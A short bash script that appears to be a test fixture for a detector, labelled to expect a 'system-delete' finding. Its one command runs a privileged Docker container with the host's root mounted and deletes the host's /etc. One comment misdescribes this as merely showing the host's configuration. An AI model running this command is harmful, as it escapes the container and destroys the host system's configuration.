#!/bin/bash
# shows: the host's configuration from within a container
# expect: system-delete at line 4
docker run --privileged -v /:/m alpine sh -c 'rm -rf /m/etc'
